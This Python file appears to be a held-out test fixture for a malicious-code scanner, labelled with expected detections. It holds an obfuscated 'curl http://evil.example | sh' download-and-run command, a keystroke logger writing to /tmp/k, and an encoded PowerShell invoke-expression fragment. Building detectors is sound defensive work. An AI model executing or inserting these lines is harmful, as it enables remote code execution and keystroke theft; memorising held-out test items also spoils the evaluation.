# ruff: noqa
# fmt: off
"""Held-out batch 2: a process started through a thread target, keyboard hooks, encoded PowerShell."""
import base64
import os
import subprocess
import threading

import keyboard

cmd = base64.b64decode("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=").decode()
threading.Thread(target=os.system, args=(cmd,)).start()  # expect: exec-base64
keyboard.on_press(lambda e: open("/tmp/k", "a").write(e.name))  # expect: keylogger
subprocess.run(["powershell", "-NoP", "-enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="])  # expect: download-pipe-shell
